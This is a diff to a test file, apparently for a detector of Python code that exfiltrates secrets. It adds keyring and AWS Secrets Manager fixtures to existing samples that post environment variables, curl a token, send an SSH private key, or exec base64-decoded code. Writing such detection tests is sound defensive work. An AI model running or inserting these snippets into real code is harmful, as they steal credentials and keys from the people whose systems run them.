@@ -13,7 +13,7 @@ t.test('every known call is worth a syntax tree where its capability is new, how
   const overlooked: string[] = []
   for (const { act, words } of callWords()) {
     const [root = '', ...rest] = words
-    if (act === 'decode' || act === 'filesystem-write' || rest.length === 0) continue
+    if (act === 'decode' || act === 'filesystem-write' || act === 'secrets' || rest.length === 0) continue
     const last = rest.at(-1) ?? root
     const forms = [
       `import ${root}\n${words.join('.')}(x)`,
@@ -34,6 +34,16 @@ const WANTED: readonly { name: string; code: string; loaded: boolean }[] = [
   { name: 'by an unknown object', loaded: false, code: 'from os import environ\ndef f(s):\n  s.post(dict(environ))' },
   { name: 'by a command', loaded: false, code: 'import os\nos.system("curl -d " + os.getenv("TOKEN"))' },
   { name: 'a key is read and sent', loaded: false, code: 'import httpx\nhttpx.post(u, data=open("~/.ssh/id_rsa"))' },
+  {
+    name: 'the store of the account is asked, and what it gives is sent',
+    loaded: false,
+    code: 'import keyring, httpx\nhttpx.post(u, data=keyring.get_password(a, b))',
+  },
+  {
+    name: 'the store of a cloud',
+    loaded: false,
+    code: 'import boto3\nx = boto3.client("secretsmanager").get_secret_value(SecretId=a)\nsession.post(u, data=x)',
+  },
   { name: 'decoded code', loaded: false, code: 'import base64\nexec(base64.b64decode(x))' },
   { name: 'code run under another name', loaded: false, code: 'import base64\nrun = exec\nrun(base64.b64decode(x))' },
   {
